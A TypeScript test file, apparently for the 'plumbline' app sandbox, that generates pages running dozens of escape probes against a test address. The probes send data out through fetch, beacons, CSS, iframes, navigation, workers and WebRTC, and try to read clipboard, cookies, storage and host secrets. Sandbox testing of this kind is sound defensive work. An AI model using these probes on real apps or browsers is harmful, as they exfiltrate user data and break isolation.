/** Where a payload tries to go. */
export interface Home {
  readonly http: string;
  readonly udp: string;
}

/** No such name exists (RFC 2606): looking it up is the leak. */
export const LOOKED_UP = 'plumbline-leak.invalid';

export interface Escape {
  readonly name: string;
  /** A body of an async function in the page: `home` is an address, `note` tells what was seen. */
  readonly code: (home: Home) => string;
}

const at = ({ http }: Home, name: string): string => `http://${http}/${name}`;

const asked = (name: string, code: (url: string) => string): Escape => ({
  name,
  code: (home) => code(JSON.stringify(at(home, name.replaceAll(' ', '-')))),
});

const element = (tag: string, set: (url: string) => string, name = tag): Escape =>
  asked(
    name,
    (url) =>
      `const made = document.createElement('${tag}'); ${set(url)}; document.body.append(made);`,
  );

const style = (name: string, css: (url: string) => string): Escape =>
  asked(
    name,
    (url) =>
      `const made = document.createElement('style'); made.textContent = ${css(url)}; document.head.append(made);`,
  );

const link = (rel: string, more = ''): Escape =>
  element('link', (url) => `made.rel = '${rel}'; made.href = ${url}; ${more}`, `link ${rel}`);

const ice = (name: string, servers: (home: Home) => string): Escape => ({
  name,
  code: (home) => `const peer = new RTCPeerConnection({ iceServers: [${servers(home)}] });
    peer.createDataChannel('x');
    peer.onicecandidate = ({ candidate }) => { if (candidate && / (srflx|relay) /.test(candidate.candidate)) leak(candidate.candidate); };
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => {
      const look = () => { if (peer.iceGatheringState === 'complete') done(); };
      peer.onicegatheringstatechange = look;
      look();
    });`,
});

/** Asks for what only the app may have; `leak` is heard when it was given. */
const given = (name: string, expression: string): Escape => ({
  name,
  code: () => `const got = await (${expression}); if (got) leak(String(got));`,
});

/** Ways out by script. Each runs in an app of its own, so that one that navigates ends no other. */
export const SCRIPT_ESCAPES: readonly Escape[] = [
  asked('fetch', (url) => `await fetch(${url}, { mode: 'no-cors' });`),
  asked('fetch keepalive', (url) => `await fetch(${url}, { keepalive: true, mode: 'no-cors' });`),
  asked(
    'XMLHttpRequest',
    (url) => `const made = new XMLHttpRequest(); made.open('GET', ${url}); made.send();`,
  ),
  asked('WebSocket', (url) => `new WebSocket(${url}.replace('http', 'ws'));`),
  asked('EventSource', (url) => `new EventSource(${url});`),
  asked('sendBeacon', (url) => `navigator.sendBeacon(${url}, 'x');`),
  asked('WebTransport', (url) => `new WebTransport(${url}.replace('http', 'https'));`),
  asked('Image', (url) => `new Image().src = ${url};`),
  element('img', (url) => `made.srcset = ${url} + ' 1x'`, 'img srcset'),
  element('script', (url) => `made.src = ${url}`),
  element('script', (url) => `made.type = 'module'; made.src = ${url}`, 'module script'),
  asked('dynamic import', (url) => `await import(${url});`),
  link('stylesheet'),
  link('icon'),
  link('manifest'),
  link('prefetch'),
  link('preload', `made.as = 'image'`),
  link('modulepreload'),
  link('preconnect', `made.crossOrigin = ''`),
  {
    name: 'link dns-prefetch',
    code: () =>
      `const made = document.createElement('link'); made.rel = 'dns-prefetch'; made.href = 'http://${LOOKED_UP}/'; document.head.append(made);`,
  },
  link('prerender'),
  element(
    'script',
    (url) =>
      `made.type = 'speculationrules'; made.textContent = JSON.stringify({ prefetch: [{ urls: [${url}] }] })`,
    'speculation rules',
  ),
  asked(
    'font',
    (url) =>
      `const made = new FontFace('away', 'url(' + ${url} + ')'); document.fonts.add(made); await made.load();`,
  ),
  style('CSS background', (url) => `'body { background: url(' + ${url} + ') }'`),
  style('CSS import', (url) => `'@import url(' + ${url} + ');'`),
  style(
    'CSS attribute',
    (url) =>
      `'html[lang] { background: url(' + ${url} + ') } a:visited { background: url(' + ${url} + ') }'`,
  ),
  element('iframe', (url) => `made.src = ${url}`),
  element('iframe', (url) => `made.srcdoc = '<img src="' + ${url} + '">'`, 'iframe srcdoc'),
  element(
    'iframe',
    (url) => `made.src = 'data:text/html,<img src="' + ${url} + '">'`,
    'iframe data',
  ),
  element('object', (url) => `made.data = ${url}`),
  element('embed', (url) => `made.src = ${url}`),
  element('video', (url) => `made.src = ${url}; made.poster = ${url}`),
  element('audio', (url) => `made.src = ${url}; made.autoplay = true`),
  element(
    'form',
    (url) => `made.method = 'post'; made.action = ${url}; queueMicrotask(() => made.submit())`,
    'form post',
  ),
  element('a', (url) => `made.href = ${url}; queueMicrotask(() => made.click())`, 'anchor click'),
  element(
    'a',
    (url) => `made.href = ${url}; made.target = '_top'; queueMicrotask(() => made.click())`,
    'anchor to the top',
  ),
  element(
    'a',
    (url) => `made.href = ${url}; made.target = '_blank'; queueMicrotask(() => made.click())`,
    'anchor to a new window',
  ),
  element(
    'a',
    (url) => `made.href = location.href; made.ping = ${url}; queueMicrotask(() => made.click())`,
    'anchor ping',
  ),
  element(
    'a',
    (url) => `made.href = ${url}; made.download = 'x.txt'; queueMicrotask(() => made.click())`,
    'download',
  ),
  asked(
    'blob download',
    () =>
      `const made = document.createElement('a'); made.href = URL.createObjectURL(new Blob(['x'])); made.download = 'x.txt'; made.click();`,
  ),
  asked('window open', (url) => `if (window.open(${url}) !== null) leak('opened');`),
  asked('location', (url) => `location.href = ${url};`),
  asked(
    'location to data',
    () => `location.href = 'data:text/html,' + encodeURIComponent(LEAK_PAGE);`,
  ),
  asked(
    'location to a blob',
    () => `location.href = URL.createObjectURL(new Blob([LEAK_PAGE], { type: 'text/html' }));`,
  ),
  asked('location to own scheme', () => `location.href = location.href + '?data=stolen';`),
  asked('location to the app', () => `location.href = 'app://plumbline/index.html';`),
  asked('top location', (url) => `top.location = ${url};`),
  asked(
    'meta refresh',
    (url) =>
      `const made = document.createElement('meta'); made.httpEquiv = 'refresh'; made.content = '0;url=' + ${url}; document.head.append(made);`,
  ),
  asked(
    'base',
    (url) =>
      `const made = document.createElement('base'); made.href = ${url}; document.head.append(made); new Image().src = 'x.png';`,
  ),
  asked('history', (url) => `history.pushState(null, '', ${url});`),
  asked('service worker', (url) => `await navigator.serviceWorker.register(${url});`),
  asked('worker', (url) => `new Worker(${url});`),
  asked(
    'blob worker',
    (url) =>
      `new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(${url}) + ')'])));`,
  ),
  asked('shared worker', (url) => `new SharedWorker(${url});`),
  ice('WebRTC STUN', ({ udp }) => `{ urls: 'stun:${udp}' }`),
  ice('WebRTC TURN', ({ udp }) => `{ urls: 'turn:${udp}', username: 'x', credential: 'x' }`),
  ice(
    'WebRTC TURN over TCP',
    ({ http }) => `{ urls: 'turn:${http}?transport=tcp', username: 'x', credential: 'x' }`,
  ),
  given('parent document', 'parent.document.title'),
  given('parent bridge', 'Object.keys(parent.host)'),
  given('own bridge', 'window.host'),
  given('Node', `typeof require === 'function' || typeof process === 'object'`),
  given('frame element', 'window.frameElement'),
  given('cookies', 'document.cookie = "a=1"'),
  given('local storage', 'localStorage'),
  given(
    'database',
    `new Promise((done) => { const opening = indexedDB.open('x'); opening.onsuccess = () => done('opened'); opening.onerror = () => done(''); })`,
  ),
  given('caches', `caches.open('x')`),
  given(
    'features',
    `document.featurePolicy.allowedFeatures().filter((one) => /clipboard|camera|microphone|geolocation|display|usb|hid|serial|payment|fullscreen/.test(one)).join(' ')`,
  ),
  given(
    'geolocation',
    `new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('placed'), () => done('')))`,
  ),
  given('clipboard read', 'navigator.clipboard.readText()'),
  given('clipboard write', `navigator.clipboard.writeText('x').then(() => 'written')`),
  given('microphone', `navigator.mediaDevices.getUserMedia({ audio: true })`),
  given(
    'notifications',
    `Notification.requestPermission().then((answer) => answer === 'granted' ? answer : '')`,
  ),
  given('modal dialogs', `confirm('x') || prompt('x')`),
  given('print', `print()`),
  given('app files', `import('app://plumbline/index.html')`),
  asked(
    'port message',
    () =>
      `parent.postMessage({ channel: 'app:call', route: 'app.info' }, '*'); parent.postMessage({ type: 'host', call: 'secrets.status' }, 'app://plumbline');`,
  ),
];

/** An app around one way out: it says that it began and how it ended, and what it got hold of. */
export function toEscapeApp({ name, code }: Escape, home: Home): string {
  const said = JSON.stringify(name);
  return `<!doctype html><html lang="en"><head><title>app</title></head><body><p>${name}</p><script>
const say = (kind, text) => parent.postMessage({ escape: ${said}, kind, text }, '*');
const leak = (what) => say('leaked', what);
const LEAK_PAGE = '<script>parent.postMessage({ escape: "${name}", kind: "leaked", text: "went there" }, "*")</' + 'script>';
say('began', '');
(async () => { ${code(home)} })().then(() => say('ended', ''), (error) => say('ended', String(error)));
</script></body></html>`;
}
